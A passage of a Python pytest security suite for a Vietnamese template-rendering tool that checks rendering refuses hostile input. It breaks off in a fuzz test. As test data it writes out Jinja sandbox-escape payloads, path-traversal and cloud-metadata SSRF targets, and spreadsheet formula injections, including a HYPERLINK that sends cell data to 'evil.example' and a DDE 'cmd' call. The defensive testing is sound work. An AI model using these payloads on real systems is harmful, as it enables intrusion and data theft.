"""Hostile input, one case at a time, each with the safe behaviour asserted.

Every test named `test_hostile_*` (one per parametrised case) is one hostile case; the
closing note of issue 5 counts them with
`pytest --collect-only -q tests/test_security.py tests/test_packs.py tests/test_images.py
tests/test_save_kills.py | grep -c hostile` (the two save-kill tests hold 250 and 40
kills each). What "safe" means is asserted in each: no crash (only `UserError` or a
refused resource reaches the caller), no leak (a canary file outside the allowed folders
never appears in any output, no `open()` of it is observed by an audit hook, and the
fetcher records the refusal), no file written outside the output or user-template
folders, no hang beyond the render limits. The `test_fuzz_*` tests feed generated input
(hypothesis) to the image cleaner, the pack reader and the URL fetcher.

Sections: 1 Jinja sandbox · 2 URL fetcher · 3 images from users · 5 runaway templates in
the render worker · 7 spreadsheet cells and field values · fuzz. (Packs: test_packs.py;
image files: test_images.py; hard kills during saves: test_save_kills.py.)
"""

from __future__ import annotations

import contextlib
import io
import os
import secrets
import sys
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from jinja2 import TemplateNotFound, UndefinedError
from jinja2.exceptions import SecurityError

from ansinh.core.campaign import Campaign, Piece
from ansinh.core.errors import UserError
from ansinh.core.render.jinja import TemplateLimitError, make_environment
from ansinh.core.render.piece import RenderOptions, render_piece
from ansinh.core.templates import TemplateRegistry
from helpers import pdf_text

ROOT = Path(__file__).resolve().parents[1]
PDF_ONLY = RenderOptions(formats=("pdf",))

MANIFEST = """id = "{tid}"
name = "Mẫu thử an toàn"
kind = "poster"
html = "piece.html.j2"

[[sizes]]
id = "A6"
width_mm = 105
height_mm = 148

[[fields]]
id = "title"
type = "text"
label = "Tiêu đề"
default = "Xin chào"

[[fields]]
id = "photo"
type = "image"
label = "Ảnh"
"""

PAGE = """<!doctype html><html><head><meta charset="utf-8"><style>{{{{ page_css }}}}
body {{ font-family: 'Be Vietnam Pro'; }}</style>{head}</head>
<body><h1 data-field="title">{{{{ f.title }}}}</h1>{body}</body></html>"""


def user_template(
    tid: str, body: str = "", head: str = "", files: dict[str, bytes | str] | None = None
) -> Path:
    """A template in the (test-isolated) user folder; `body`/`head` are raw Jinja HTML."""
    folder = Path(os.environ["ANSINH_USER_DIR"]) / "templates" / tid
    folder.mkdir(parents=True)
    (folder / "template.toml").write_text(MANIFEST.format(tid=tid), encoding="utf-8")
    (folder / "piece.html.j2").write_text(PAGE.format(head=head, body=body), encoding="utf-8")
    for name, content in (files or {}).items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            target.write_text(content, encoding="utf-8")
        else:
            target.write_bytes(content)
    return folder


def render(tid: str, values: dict | None = None, base_dir: Path | None = None):
    campaign = Campaign(name="Chiến dịch thử", base_dir=base_dir or Path.cwd())
    return render_piece(
        Piece(tid, "toan-dan", None, values or {}), campaign, PDF_ONLY, registry=TemplateRegistry()
    )


@pytest.fixture
def canary(tmp_path: Path) -> tuple[Path, str]:
    """A secret file outside every allowed folder; its text must never come out."""
    secret = f"CANARY-{secrets.token_hex(8)}"
    folder = tmp_path / "outside"
    folder.mkdir()
    path = folder / "secret.css"
    path.write_text(f"h1::after {{ content: '{secret}'; }}\n/* {secret} */", encoding="utf-8")
    return path, secret


# --- 1. Jinja sandbox ------------------------------------------------------------------

JINJA_ATTACKS = {
    "class-mro": ("{{ ''.__class__.__mro__ }}", SecurityError),
    "class-subclasses": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", SecurityError),
    "attr-format": ("{{ ('{0.__class__}'|attr('format'))(1) }}", SecurityError),
    "format-globals": ("{{ '{0.__globals__}'.format(range) }}", SecurityError),
    "format-map-class": ("{{ '{a.__class__}'.format_map({'a': 1}) }}", SecurityError),
    "str-times-1e9": ("{{ 'a' * 10**9 }}", TemplateLimitError),
    "list-times-1e8": ("{{ [0] * 10**8 }}", TemplateLimitError),
    "huge-power": ("{{ 9 ** 999999 }}", TemplateLimitError),
    "huge-int-product": ("{{ (7 ** 4000) * (7 ** 4000) }}", TemplateLimitError),
    "nested-huge-ranges": (
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        TemplateLimitError,
    ),
    "range-1e9": ("{{ range(10**9)|list|length }}", TemplateLimitError),
    "doubling-namespace": (
        "{% set ns = namespace(s='ab') %}{% for i in range(64) %}"
        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
        TemplateLimitError,
    ),
    "doubling-plus": (
        "{% set ns = namespace(s=['x']) %}{% for i in range(64) %}"
        "{% set ns.s = ns.s + ns.s %}{% endfor %}",
        TemplateLimitError,
    ),
    "doubling-macro": (
        "{% macro f(s, n) %}{% if n %}{{ f(s ~ s, n - 1) }}{% else %}{{ s|length }}"
        "{% endif %}{% endmacro %}{{ f('ab', 64) }}",
        TemplateLimitError,
    ),
    "percent-width": ("{{ '%999999999d' % 1 }}", TemplateLimitError),
    "format-filter-width": ("{{ '%999999999s'|format('x') }}", TemplateLimitError),
    "brace-width": ("{{ '{:>999999999}'.format(1) }}", TemplateLimitError),
    "brace-nested-width": ("{{ '{:{w}}'.format(1, w=999999999) }}", TemplateLimitError),
    "center-filter": ("{{ 'a'|center(10**9) }}", TemplateLimitError),
    "ljust-method": ("{{ 'a'.ljust(10**9) }}", TemplateLimitError),
    "zfill-method": ("{{ '1'.zfill(10**9) }}", TemplateLimitError),
    "expandtabs": ("{{ ('\t' * 100000).expandtabs(100000) }}", TemplateLimitError),
    "replace-growth": ("{{ ('a' * 100000)|replace('a', 'b' * 1000) }}", TemplateLimitError),
    "replace-method": ("{{ ('a' * 100000).replace('a', 'b' * 1000) }}", TemplateLimitError),
    "join-growth": ("{{ ','.join(['a' * 100000] * 100) }}", TemplateLimitError),
    "indent-growth": ("{{ ('\n' * 100000)|indent(100000, true, true) }}", TemplateLimitError),
    "slice-huge": ("{{ [1]|slice(10**9)|list|length }}", TemplateLimitError),
    "output-flood": (
        "{% for i in range(1000) %}{{ 'a' * 100000 }}{% endfor %}",
        TemplateLimitError,
    ),
    "lipsum-flood": ("{{ lipsum(10**6) }}", UndefinedError),
    "list-append": ("{% set l = [1] %}{{ l.append(l) }}", SecurityError),
    "dict-update": ("{% set d = {} %}{{ d.update(a=1) }}", SecurityError),
    "path-read": ("{{ p.joinpath('/etc/passwd').read_text() }}", SecurityError),
    "path-write": ("{{ p.joinpath('pwned.txt').write_text('x') }}", SecurityError),
    "path-open": ("{{ p.open().read() }}", SecurityError),
    "include-parent": ("{% include '../../../../etc/passwd' %}", TemplateNotFound),
    "include-absolute": ("{% include '/etc/passwd' %}", TemplateNotFound),
    "import-os": ("{% import 'os' as os %}{{ os.system('id') }}", TemplateNotFound),
    "self-globals": ("{{ self.__init__.__globals__ }}", SecurityError),
    "cycler-globals": ("{{ cycler.__init__.__globals__.os }}", SecurityError),
    "macro-func-globals": (
        "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
        SecurityError,
    ),
}


@pytest.mark.parametrize("name", sorted(JINJA_ATTACKS))
def test_hostile_jinja_expression_fails_fast_and_safely(name: str, tmp_path: Path) -> None:
    source, expected = JINJA_ATTACKS[name]
    env = make_environment([tmp_path], html=True)
    started = time.process_time()
    with pytest.raises(expected):
        env.from_string(source).render(p=tmp_path)
    assert time.process_time() - started < 2.0
    assert not (tmp_path / "pwned.txt").exists()


def test_ordinary_template_code_still_works(tmp_path: Path) -> None:
    env = make_environment([tmp_path], html=True)
    source = (
        "{{ 'Xin ' ~ 'chào' }}|{{ 3 * 4 }}|{{ 2 ** 10 }}|{{ '-' * 3 }}|{{ '%05.1f' % 3.14159 }}"
        "|{{ '{:>4}'.format(7) }}|{{ range(3)|join(',') }}|{{ 'a b'|replace(' ', '_') }}"
        "|{{ p.name }}|{% set ns = namespace(n=0) %}{% for i in range(5) %}"
        "{% set ns.n = ns.n + i %}{% endfor %}{{ ns.n }}|{{ '<b>' }}|{{ 1234567|number }}"
    )
    assert env.from_string(source).render(p=tmp_path / "x.png") == (
        "Xin chào|12|1024|---|003.1|   7|0,1,2|a_b|x.png|10|&lt;b&gt;|1.234.567"
    )


def test_hostile_jinja_in_a_user_template_is_a_user_error_naming_it(canary) -> None:
    secret_path, secret = canary
    user_template(
        "mau-doc-tep",
        body=f"<p>{{{{ template.folder.joinpath('{secret_path}').read_text() }}}}</p>",
    )
    with pytest.raises(UserError) as caught:
        render("mau-doc-tep")
    assert "mau-doc-tep" in caught.value.vi and "mau-doc-tep" in caught.value.en
    assert secret not in caught.value.vi


def test_hostile_string_bomb_in_a_user_template_is_a_user_error() -> None:
    user_template("mau-bom-chuoi", body="<p>{{ 'a' * 10**9 }}</p>")
    with pytest.raises(UserError) as caught:
        render("mau-bom-chuoi")
    assert "mau-bom-chuoi" in caught.value.vi
    assert "quá lớn" in caught.value.vi and "too large" in caught.value.en


def test_hostile_template_source_symlinked_outside_is_not_loaded(canary) -> None:
    secret_path, secret = canary
    folder = user_template("mau-lien-ket", body="{% include 'leak.j2' %}")
    (folder / "leak.j2").symlink_to(secret_path)
    with pytest.raises(UserError) as caught:
        render("mau-lien-ket")
    assert secret not in str(caught.value.vi)


def test_hostile_template_source_device_is_not_loaded() -> None:
    folder = user_template("mau-thiet-bi", body="{% include 'rand.j2' %}")
    (folder / "rand.j2").symlink_to("/dev/urandom")
    started = time.monotonic()
    with pytest.raises(UserError):
        render("mau-thiet-bi")
    assert time.monotonic() - started < 10


# --- 2. The URL fetcher ----------------------------------------------------------------

_OPENED: list[str] | None = None


def _audit(event: str, args: tuple) -> None:
    if event == "open" and _OPENED is not None and isinstance(args[0], str | bytes | Path):
        _OPENED.append(os.fsdecode(args[0]))


sys.addaudithook(_audit)  # observes every open() / os.open() this process makes


class OpenLog:
    """Records the paths opened inside the block (Python-level opens)."""

    def __enter__(self) -> list[str]:
        global _OPENED
        _OPENED = []
        return _OPENED

    def __exit__(self, *exc: object) -> None:
        global _OPENED
        _OPENED = None


# How a document can name a resource: every one goes through the fetcher.
VECTORS = {
    "img": lambda url: ("", f'<img src="{url}" alt="">'),
    "link-stylesheet": lambda url: (f'<link rel="stylesheet" href="{url}">', ""),
    "css-import": lambda url: (f'<style>@import url("{url}");</style>', ""),
    "css-url": lambda url: (f'<style>h1 {{ background: url("{url}"); }}</style>', ""),
    "font-face": lambda url: (
        f"<style>@font-face {{ font-family: Evil; src: url('{url}'); }} "
        "h1 { font-family: Evil; }</style>",
        "",
    ),
    "link-attachment": lambda url: (f'<link rel="attachment" href="{url}">', ""),
    "a-attachment": lambda url: ("", f'<a rel="attachment" href="{url}">tệp</a>'),
    "svg-image": lambda url: (
        "",
        f'<svg width="20" height="20"><image href="{url}" width="20" height="20"/></svg>',
    ),
    "object": lambda url: ("", f'<object data="{url}" type="image/png"></object>'),
}

HOSTILE_TARGETS = (
    "file-url",  # file:///…/outside/secret.css
    "dotdot",  # ../../…/outside/secret.css
    "absolute-path",  # /…/outside/secret.css
    "localhost-url",  # file://localhost/…/outside/secret.css
    "symlink-out",  # link.css inside the template folder → the canary
    "dir-symlink-out",  # sub/ inside the folder → the canary's folder
    "etc-passwd",
    "proc-environ",
    "dev-urandom",
    "fifo",  # a named pipe inside the template folder
    "oversized",  # a 41 MB file inside the template folder
    "metadata-ip",  # http://169.254.169.254/
    "https",
    "ftp",
    "unc-host",  # file://server/share/… (a Windows share)
    "toml-inside",  # template.toml: inside, but not an image, font or CSS
)


def _target(name: str, folder: Path, secret_path: Path) -> str:
    rel = os.path.relpath(secret_path, folder)
    if name == "file-url":
        return secret_path.as_uri()
    if name == "dotdot":
        return rel
    if name == "absolute-path":
        return str(secret_path)
    if name == "localhost-url":
        return "file://localhost" + str(secret_path)
    if name == "symlink-out":
        (folder / "link.css").symlink_to(secret_path)
        return "link.css"
    if name == "dir-symlink-out":
        (folder / "sub").symlink_to(secret_path.parent, target_is_directory=True)
        return "sub/" + secret_path.name
    if name == "etc-passwd":
        return "file:///etc/passwd"
    if name == "proc-environ":
        return "/proc/self/environ"
    if name == "dev-urandom":
        return "file:///dev/urandom"
    if name == "fifo":
        os.mkfifo(folder / "pipe.css")
        return "pipe.css"
    if name == "oversized":
        with open(folder / "big.css", "wb") as handle:
            handle.truncate(41 * 1024 * 1024)
        return "big.css"
    if name == "metadata-ip":
        return "http://169.254.169.254/latest/meta-data/"
    if name == "https":
        return "https://example.com/evil.css"
    if name == "ftp":
        return "ftp://example.com/evil.css"
    if name == "unc-host":
        return "file://evil-server/share/evil.css"
    if name == "toml-inside":
        return "template.toml"
    raise AssertionError(name)


def _render_watched(tid: str) -> tuple[object, list[str], list]:
    """Render with a 20 s alarm, logging opens and keeping every fetcher used."""
    import signal

    from ansinh.core.render import layout
    from ansinh.core.render.fetcher import SafeFetcher

    fetchers: list[SafeFetcher] = []

    class Recording(SafeFetcher):
        def __init__(self, roots: list[Path]) -> None:
            super().__init__(roots)
            fetchers.append(self)

    def _hang(*_: object) -> None:
        raise TimeoutError("render hung")

    previous = signal.signal(signal.SIGALRM, _hang)
    signal.alarm(20)
    original, layout.SafeFetcher = layout.SafeFetcher, Recording
    try:
        with OpenLog() as opened:
            result = render_piece(
                Piece(tid, "toan-dan", None, {}),
                Campaign(name="Thử", base_dir=Path.cwd()),
                RenderOptions(formats=("pdf",), fast_pdf=True),  # uncompressed: greppable
                registry=TemplateRegistry(),
            )
    finally:
        layout.SafeFetcher = original
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    return result, list(opened), [url for f in fetchers for url in f.refused]


FORBIDDEN_READS = ("/etc/passwd", "/proc/self/environ", "/dev/urandom")


@pytest.mark.parametrize("target", HOSTILE_TARGETS)
@pytest.mark.parametrize("vector", sorted(VECTORS))
def test_hostile_resource_is_never_read(vector: str, target: str, canary) -> None:
    secret_path, secret = canary
    tid = f"mau-{vector}-{target}"
    folder = user_template(tid)
    url = _target(target, folder, secret_path)
    head, body = VECTORS[vector](url)
    (folder / "piece.html.j2").write_text(PAGE.format(head=head, body=body), encoding="utf-8")

    result, opened, refused = _render_watched(tid)

    pdf = result.artifact("pdf").data
    assert secret.encode() not in pdf and secret not in pdf_text(pdf)
    assert b"root:x:0:0" not in pdf
    assert b"EmbeddedFile" not in pdf  # no attachment made it in
    outside = {str(secret_path), str(secret_path.resolve()), *FORBIDDEN_READS}
    assert not outside & {os.path.realpath(p) for p in opened} | outside & set(opened)
    assert not any(p.endswith(("pipe.css", "big.css")) for p in opened)
    assert b'kind = "poster"' not in pdf  # template.toml (read by the registry) not served
    last = url.rstrip("/").rsplit("/", 1)[-1]
    assert any(r.rstrip("/").endswith(last) for r in refused), refused


@pytest.mark.parametrize("vector", sorted(VECTORS))
def test_allowed_resource_inside_the_folder_is_served(vector: str) -> None:
    """The control for the test above: the same vectors do reach files that are allowed."""
    from PIL import Image

    # Upper case: a random "ff" would become a ligature glyph that text extraction reads
    # back as another letter (the test failed ~4 % of runs).
    token = f"INSIDE{secrets.token_hex(6).upper()}"
    png = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(png, "PNG")
    tid = f"mau-duoc-{vector}"
    folder = user_template(
        tid,
        files={
            "ok.css": f"h1::after {{ content: '{token}'; }}",
            "ok.png": png.getvalue(),
            "font.ttf": (ROOT / "assets/fonts/BeVietnamPro-Bold.ttf").read_bytes(),
        },
    )
    name = {"font-face": "font.ttf", "link-stylesheet": "ok.css", "css-import": "ok.css"}
    url = name.get(vector, "ok.png")
    head, body = VECTORS[vector](url)
    (folder / "piece.html.j2").write_text(PAGE.format(head=head, body=body), encoding="utf-8")
    result, opened, refused = _render_watched(tid)
    assert not refused
    assert not [c for c in result.checks if c.code == "resource"], result.checks
    assert any(p.endswith(url) for p in opened)
    if url == "ok.css":
        assert token in pdf_text(result.artifact("pdf").data)


def test_hostile_eps_renamed_png_inside_the_folder_is_refused() -> None:
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n"
    tid = "mau-eps"
    user_template(tid, body='<img src="logo.png">', files={"logo.png": eps})
    result, _, refused = _render_watched(tid)
    assert refused and [c for c in result.checks if c.code == "resource"]


def test_hostile_data_url_with_eps_is_refused() -> None:
    import base64

    eps = base64.b64encode(b"%!PS-Adobe-3.0 EPSF-3.0\nshowpage\n").decode()
    tid = "mau-data-eps"
    user_template(tid, body=f'<img src="data:image/png;base64,{eps}">')
    result, _, refused = _render_watched(tid)
    assert refused and [c for c in result.checks if c.code == "resource"]


def test_fetcher_refuses_directly(tmp_path: Path, canary) -> None:
    """The fetcher on its own, for the cases a document cannot easily reach."""
    from ansinh.core.render.fetcher import SafeFetcher

    secret_path, _ = canary
    root = tmp_path / "root"
    root.mkdir()
    (root / "ok.css").write_text("h1 { color: red; }", encoding="utf-8")
    fetcher = SafeFetcher([root])
    assert fetcher.fetch((root / "ok.css").as_uri()).read() == b"h1 { color: red; }"
    for url in (
        secret_path.as_uri(),
        (root / ".." / "outside" / "secret.css").as_uri(),
        "file:///etc/passwd",
        "http://169.254.169.254/",
        "gopher://x/",
        "javascript:alert(1)",
        "data:text/html,<script>1</script>",
        "data:image/png;base64,%%%%",
    ):
        with pytest.raises(ValueError):
            fetcher.fetch(url)
    assert len(fetcher.refused) == 8


# --- 3. Images from users ----------------------------------------------------------------


@pytest.mark.parametrize("reference", ["absolute", "relative-neighbour", "css-import"])
def test_hostile_svg_photo_cannot_reach_files(tmp_path: Path, canary, reference: str) -> None:
    """An SVG is served as a copy in its own cache folder; what it names goes through the
    fetcher, so neither an absolute path nor a file beside the original is read."""
    secret_path, secret = canary
    photos = tmp_path / "photos"
    photos.mkdir()
    neighbour = photos / "private.css"
    neighbour.write_text(f"text {{ fill: red }} /* {secret} */", encoding="utf-8")
    href = {
        "absolute": secret_path.as_uri(),
        "relative-neighbour": "private.css",
        "css-import": "private.css",
    }[reference]
    if reference == "css-import":
        inner = f'<style>@import url("{href}");</style>'
    else:
        inner = f'<image href="{href}" width="10" height="10"/>'
    (photos / "anh.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">{inner}'
        '<rect width="50" height="50" fill="#0a0"/></svg>',
        encoding="utf-8",
    )
    tid = f"mau-svg-{reference}"
    user_template(tid, body='{% if f.photo %}<img src="{{ f.photo.url }}">{% endif %}')
    with OpenLog() as opened:
        result = render_piece(
            Piece(tid, "toan-dan", None, {"photo": "anh.svg"}),
            Campaign(name="Thử", base_dir=photos),
            RenderOptions(formats=("pdf",), fast_pdf=True),
            registry=TemplateRegistry(),
        )
    pdf = result.artifact("pdf").data
    assert secret.encode() not in pdf
    real = {os.path.realpath(p) for p in opened}
    assert str(secret_path) not in real and str(neighbour) not in real


# --- 5. Runaway templates are stopped by the render worker ------------------------------

WORKER_CPU_SECONDS = 3.0
RUNAWAY = {
    # name: (head, body, manifest size replacement, words the message must hold)
    "css-huge-sizes": (
        "<style>h1 { font-size: 1e9px; width: 1e12px; letter-spacing: 1e9px; "
        "margin-left: -1e15px; border: 1e9px solid red; }</style>",
        "",
        None,
        "dàn trang",
    ),
    "css-huge-shadows": (
        "<style>h1 { text-shadow: 0 0 1e6px red; box-shadow: 0 0 1e8px 1e8px red; "
        "filter: blur(1e6px); }</style>",
        "",
        None,
        None,  # harmless to WeasyPrint: it may render; it must not hang or crash
    ),
    "deep-block-nesting": (
        "",
        "{% for i in range(30000) %}<div>{% endfor %}x{% for i in range(30000) %}</div>"
        "{% endfor %}",
        None,
        "dừng",
    ),
    "deep-inline-nesting": ("", "{% for i in range(30000) %}<span>{% endfor %}x", None, ""),
    "string-loop-1e12": (
        "",
        "{% set s = 'a' * 999999 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
        None,
        "dừng",
    ),
    "page-flood": (
        "",
        "{% for i in range(100000) %}<p style='break-after: page'>x</p>{% endfor %}",
        None,
        "dừng",
    ),
    "giant-page-raster": (
        "",
        "",
        ("width_mm = 105\nheight_mm = 148", "width_mm = 20000\nheight_mm = 20000\npng_dpi = 300"),
        "bộ nhớ",
    ),
}


@pytest.fixture(scope="module")
def runaway_results(tmp_path_factory: pytest.TempPathFactory):
    """Every runaway template submitted at once to a small bounded pool."""
    from ansinh.core.render.worker import RenderPool

    user_dir = tmp_path_factory.mktemp("runaway-user")
    results = {}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ANSINH_USER_DIR", str(user_dir))
        pool = RenderPool(workers=2, memory_mb=1500, cpu_seconds=WORKER_CPU_SECONDS)
        futures = {}
        for name, (head, body, size, _) in RUNAWAY.items():
            folder = user_template(f"chay-{name}", body=body, head=head)
            if size:
                manifest = (folder / "template.toml").read_text(encoding="utf-8")
                (folder / "template.toml").write_text(manifest.replace(*size), encoding="utf-8")
            piece = Piece(f"chay-{name}", "toan-dan", None, {})
            options = RenderOptions(formats=("pdf", "png"))
            futures[name] = (
                time.monotonic(),
                pool.submit(render_piece, piece, Campaign(name="Thử", base_dir=user_dir), options),
            )
    for name, (started, future) in futures.items():
        try:
            results[name] = pool.result(future)
        except Exception as exc:  # what reached the caller: must be a UserError
            results[name] = exc
        results[name + ":seconds"] = time.monotonic() - started
    results["pool"] = pool
    yield results
    pool.close()


@pytest.mark.parametrize("name", sorted(RUNAWAY))
def test_hostile_runaway_template_is_stopped_and_reported(name: str, runaway_results) -> None:
    outcome = runaway_results[name]
    expected = RUNAWAY[name][3]
    # Bounded: the CPU budget, plus queueing behind the other cases on two workers.
    assert runaway_results[name + ":seconds"] < WORKER_CPU_SECONDS * len(RUNAWAY) + 30
    if expected is None and not isinstance(outcome, BaseException):
        return  # rendered within its limits
    assert isinstance(outcome, UserError), repr(outcome)
    assert outcome.vi and outcome.en and outcome.vi != outcome.en
    assert expected in outcome.vi, outcome.vi


def test_the_pool_still_renders_after_the_runaways(runaway_results) -> None:
    pool = runaway_results["pool"]
    piece = Piece("poster-bhxh", "toan-dan", "A4", {})
    result = pool.result(pool.submit(render_piece, piece, Campaign(name="Thử"), PDF_ONLY))
    assert result.ok and result.artifact("pdf").data.startswith(b"%PDF")


def _spin_with_the_timer_blocked() -> None:
    import signal

    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGPROF})  # as if stuck in native code
    while True:
        pass


def test_hostile_task_deaf_to_the_timer_is_killed_by_the_cpu_limit() -> None:
    from ansinh.core.render.worker import RenderPool

    started = time.monotonic()
    with RenderPool(workers=1, cpu_seconds=1) as pool:
        with pytest.raises(UserError) as caught:
            pool.result(pool.submit(_spin_with_the_timer_blocked))
        assert "đột ngột" in caught.value.vi
        assert pool.result(pool.submit(os.getpid)) > 0  # a fresh worker took over
    assert time.monotonic() - started < 30


def test_hostile_runaway_through_the_cli_writes_nothing(tmp_path: Path, monkeypatch, capsys):
    from ansinh.cli.main import main

    monkeypatch.setenv("ANSINH_RENDER_CPU_SECONDS", "2")
    user_template("mau-vong-lap", body=RUNAWAY["string-loop-1e12"][1])
    out = tmp_path / "out"
    out.mkdir()
    started = time.monotonic()
    status = main(["render", "mau-vong-lap", "--segment", "toan-dan", "--out", str(out)])
    assert status == 2 and time.monotonic() - started < 30
    err = capsys.readouterr().err
    assert "dừng" in err and "Traceback" not in err
    assert list(out.iterdir()) == []


# --- 7. Spreadsheet cells and field values: text stays text, names stay inside -----------

SHEET_CELLS = [
    "<script>alert(1)</script>",
    '<img src="file:///etc/passwd">',
    "<style>@import url(file:///etc/passwd)</style>",
    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "../../../evil",
    "..\\..\\evil",
    "/etc/passwd",
    "C:\\Windows\\evil",
    "CON",
    "nul.txt",
    "COM1",
    "LPT¹",
    "\u202egnp.exe",
    ".hidden",
    "thôn a",
    "THÔN A",
]


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory: pytest.TempPathFactory):
    """One batch over a sheet whose cells are all hostile; rendered in the worker pool."""
    import csv
    import dataclasses

    from ansinh.core.batch import plan_batch, run_batch
    from ansinh.core.campaign import load_campaign

    root = tmp_path_factory.mktemp("hostile-sheet")
    rows = root / "thon.csv"
    with rows.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["STT", "Tên thôn"])
        writer.writerows([number, cell] for number, cell in enumerate(SHEET_CELLS, start=1))
    campaign = dataclasses.replace(
        load_campaign(ROOT / "assets" / "sample" / "campaign.toml"),
        name='=HYPERLINK("http://evil.example","Chiến dịch")',
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ANSINH_USER_DIR", str(tmp_path_factory.mktemp("sheet-user")))
        plan = plan_batch("banner-bhxh", rows, campaign, segment="toan-dan")
        out = root / "out"
        events = list(
            run_batch(plan, campaign, out, RenderOptions(formats=("pdf",)), combined=False)
        )
    failed = {e.row: e.checks for e in events if e.kind == "failed"}
    return root, rows, out, plan, events[-1].bundle, failed


@pytest.mark.parametrize("index", range(len(SHEET_CELLS)))
def test_hostile_spreadsheet_cell_stays_text_and_its_file_stays_inside(
    index: int, hostile_batch
) -> None:
    root, rows, out, plan, bundle, failed = hostile_batch
    cell = SHEET_CELLS[index]
    row = index + 2  # the header is row 1
    assert not plan.problems, [p.vi for p in plan.problems]
    if "\u202e" in cell:  # an invisible bidi override: the font cannot draw it
        assert any(c.code == "glyph" and c.field == "place" for c in failed[row])
        assert not [e for e in bundle.entries if e.row == row]
        return
    assert row not in failed
    entries = [e for e in bundle.entries if e.row == row]
    assert len(entries) == 1, [e.row for e in bundle.entries]
    name = entries[0].file
    # The file name: one safe component, inside the bundle, no reserved device stem.
    assert "/" not in name and "\\" not in name and "\u202e" not in name
    assert not name.startswith((".", "-", "=", "+", "@", " "))
    assert name.split(".")[0].casefold() not in {"con", "nul", "com1", "lpt¹"}  # Windows' rule
    path = out / name
    assert path.is_file() and path.resolve().parent == out.resolve()
    # The cell's text is printed as text: markup escaped, nothing fetched.
    text = pdf_text(path.read_bytes())
    shown = " ".join(cell.replace("\u202e", "").split())
    assert shown in text or shown.replace(" ", "") in text.replace(" ", ""), (shown, text)


def test_hostile_sheet_writes_nothing_outside_and_manifest_csv_is_neutralised(
    hostile_batch,
) -> None:
    import csv
    import json

    root, rows, out, _plan, bundle, failed = hostile_batch
    for path in root.rglob("*"):
        assert path in (rows, out) or out in path.parents, path
    names = {e.file.casefold() for e in bundle.entries}
    assert len(names) == len(bundle.entries) == len(SHEET_CELLS) - len(failed)  # unique
    with (out / "manifest.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for record in csv.reader(handle) for cell in record]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["campaign"].startswith("=HYPERLINK")  # JSON keeps the data as it is


PARAGRAPH_ATTACKS = {
    "html-and-script": (
        "<b>đậm</b><script>alert(1)</script>",
        "<b>đậm</b><script>alert(1)</script>",
    ),
    "raw-img-tag": ('<img src="/etc/passwd">', '<img src="/etc/passwd">'),
    "markdown-image-outside": ("![x](file:///etc/passwd) chữ", "chữ"),
    "raw-attachment-link": (
        "<a href='file:///etc/passwd' rel='attachment'>x</a>",
        "<a href='",
    ),
}


@pytest.mark.parametrize("name", sorted(PARAGRAPH_ATTACKS))
def test_hostile_markup_in_a_paragraph_field_is_escaped(name: str, tmp_path: Path) -> None:
    value, shown = PARAGRAPH_ATTACKS[name]
    with OpenLog() as opened:
        result = render_piece(
            Piece("poster-bhxh", "toan-dan", "A4", {"benefits": value}),
            Campaign(name="Thử", base_dir=tmp_path),
            RenderOptions(formats=("pdf",), fast_pdf=True),
        )
    pdf = result.artifact("pdf").data
    assert b"root:x:0:0" not in pdf and b"EmbeddedFile" not in pdf
    assert "/etc/passwd" not in {os.path.realpath(p) for p in opened}
    assert shown in pdf_text(pdf)


def test_hostile_javascript_link_in_a_paragraph_is_not_a_pdf_link(tmp_path: Path) -> None:
    result = render_piece(
        Piece("poster-bhxh", "toan-dan", "A4", {"benefits": "[bấm](javascript:alert(1))"}),
        Campaign(name="Thử", base_dir=tmp_path),
        RenderOptions(formats=("pdf",), fast_pdf=True),
    )
    assert b"javascript" not in result.artifact("pdf").data


# --- Fuzz: any input ends in a result or a clear error ----------------------------------


FUZZ = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def _valid_png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.effect_noise((32, 32), 40).save(out, "PNG")
    return out.getvalue()


VALID_PNG = _valid_png()


@FUZZ
@given(
    data=st.binary(max_size=4096)
    | st.builds(
        lambda cut, flips: bytes(
            b ^ (0xFF if i in flips else 0) for i, b in enumerate(VALID_PNG[:cut])
        ),
        st.integers(0, len(VALID_PNG)),
        st.sets(st.integers(0, len(VALID_PNG)), max_size=8),
    )
)
def test_fuzz_image_bytes_end_in_a_clean_image_or_a_user_error(data: bytes) -> None:
    from ansinh.core import images

    try:
        cleaned, suffix = images.clean_bytes(data, "anh.png")
    except UserError as exc:
        assert exc.vi and exc.en
        return
    assert suffix in (".png", ".jpg", ".svg") and cleaned


def _zip_with(names: list[str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index, name in enumerate(names):
            with contextlib.suppress(Exception):  # names zipfile itself cannot write
                archive.writestr(name or f"x{index}", b"h1{}")
    return buffer.getvalue()


@pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")  # hostile zips, on purpose
@FUZZ
@given(
    data=st.one_of(
        st.binary(max_size=2048),
